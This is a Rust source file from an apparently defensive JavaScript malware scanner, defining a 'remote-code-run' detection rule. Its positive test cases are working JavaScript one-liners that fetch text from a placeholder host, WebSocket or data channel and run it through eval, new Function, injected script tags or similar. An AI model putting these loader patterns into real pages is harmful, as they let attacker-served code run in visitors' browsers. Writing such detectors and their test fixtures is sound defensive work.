//! `remote-code-run`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "remote-code-run",
    description: "The script runs text from a server, a socket or another window as code.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::RemoteRun])],
    within: 0,
    only_if: Some(runs_code),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://c.example/a').then(r=>r.text()).then(c=>eval(c))",
            "fetch(u).then(r=>r.text()).then(eval)",
            "var s=new WebSocket('wss://c.example/');s.onmessage=function(e){eval(e.data)}",
            "fetch('https://c.example/a').then(r=>r.text()).then(c=>{const s=document.createElement('script');s.textContent=c;document.head.append(s)})",
            "async function go(){const r=await fetch(u);const t=await r.text();new Function(t)()}",
            "(function(e){e.ajax({url:u,dataType:'text'}).done(function(t){e.globalEval(t)})})(jQuery)",
            "var d=peer.createDataChannel('a'),parts=[];d.onmessage=e=>parts.push(e.data);d.onclose=()=>{var s=document.createElement('script');s.append(parts.join(''));document.head.append(s)}",
            "fetch(u).then(r=>r.text()).then(t=>import('data:text/javascript;base64,'+btoa(t)))",
        ],
        without: &[
            "fetch('/a').then(r=>r.json()).then(d=>{list.textContent=d.name})",
            "addEventListener('message',e=>{if(e.data==='done')close()})",
            "var x=new XMLHttpRequest;x.open('GET','/a');x.onload=function(){var d=eval('('+x.responseText+')');show(d)};x.send()",
            "fetch('/sw').then(r=>r.text()).then(t=>{if(t!==old)location.reload()})",
            "fetch('/a').then(r=>r.json()).then(d=>{setTimeout(()=>show(d),300)})",
            "fetch('/a').then(r=>r.json()).then(d=>{label.text=d.name})",
            "fetch('/a').then(r=>r.json()).then(d=>{var b=document.createElement('script-list');b.append(d.name)})",
        ],
    },
};

/// Whether there is anything but data that is read. Timers take functions, too, and elements text: there, what runs code is near.
fn runs_code(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, BESIDE);
    near.facts(Atom::RemoteRun).any(|at| {
        // `import(…)`: the place is the bracket.
        let runs = near.is(at, b'(') || RUNNERS.contains(&near.word(at));
        !near.reads_data(at)
            && (runs || near.has_fact(&[Atom::Eval, Atom::FunctionOfText, Atom::ScriptElement]))
    })
}

/// What runs the text that it is given, and nothing else.
const RUNNERS: &[&str] = &["eval", "Function", "execScript", "globalEval", "constructor", "call", "apply"];
/// Items between other things that take a text and what runs it.
const BESIDE: usize = 24;
